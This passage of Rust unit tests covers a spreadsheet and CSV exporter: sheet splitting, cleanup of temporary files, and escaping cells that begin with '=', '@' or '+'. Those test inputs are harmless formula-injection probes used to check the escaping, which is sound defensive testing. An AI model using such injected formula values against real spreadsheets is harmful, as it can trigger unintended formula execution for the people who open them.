        for i in 0..7 {
            w.write_row(&[format!("r{i}"), if i == 0 { "=1+1".into() } else { "长".repeat(50) }]).unwrap();
        }
        assert_eq!(w.rows(), 7);
        assert_eq!(w.finish().unwrap(), 3, "3 + 3 + 1 rows");
        use calamine::Reader;
        let mut book = calamine::open_workbook_auto(&x).unwrap();
        assert_eq!(book.sheet_names(), vec!["明细".to_string(), "明细 (2)".to_string(), "明细 (3)".to_string()]);
        let first = book.worksheet_range("明细").unwrap();
        assert_eq!(first.height(), 4);
        assert_eq!(first.get((1, 1)), Some(&calamine::Data::String("=1+1".into())), "text, never a formula");
        let last = book.worksheet_range("明细 (3)").unwrap();
        assert_eq!((last.height(), last.get((0, 0)).unwrap().to_string(), last.get((1, 0)).unwrap().to_string()), (2, "规则".into(), "r6".into()));
        let csv = std::fs::read_to_string(&c).unwrap();
        assert!(csv.starts_with("\u{feff}规则,说明\nr0,'=1+1\n"), "{csv}");
        assert_eq!(csv.lines().count(), 8);
        assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 2, "no temporary file left beside them");
    }

    #[test]
    fn the_text_csv_neutralises_formula_cells_and_keeps_plain_numbers() {
        let headers = vec!["=h".to_string(), "说明".to_string()];
        let rows = vec![vec!["@SUM(1+1)".to_string(), "-12.5".to_string()], vec!["+86 138".to_string(), "王局".to_string()]];
        let csv = String::from_utf8(text_csv(&headers, &rows).unwrap()).unwrap();
        assert_eq!(csv, "\u{feff}'=h,说明\n'@SUM(1+1),-12.5\n'+86 138,王局\n");
    }

    #[test]
    fn csv_and_table() {
        let (schema, b) = sample();
        let mut out = Vec::new();
        print_batches(&mut out, &schema, std::slice::from_ref(&b), PrintFormat::Csv).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "rule,due_at\na,2026-10-15 23:59:59\nb,\n");
        let mut out = Vec::new();
        print_batches(&mut out, &schema, &[b], PrintFormat::Table).unwrap();
        assert!(String::from_utf8(out).unwrap().contains("2026-10-15 23:59:59"));
        assert_eq!(text_width("窗口A"), 5);
    }
}
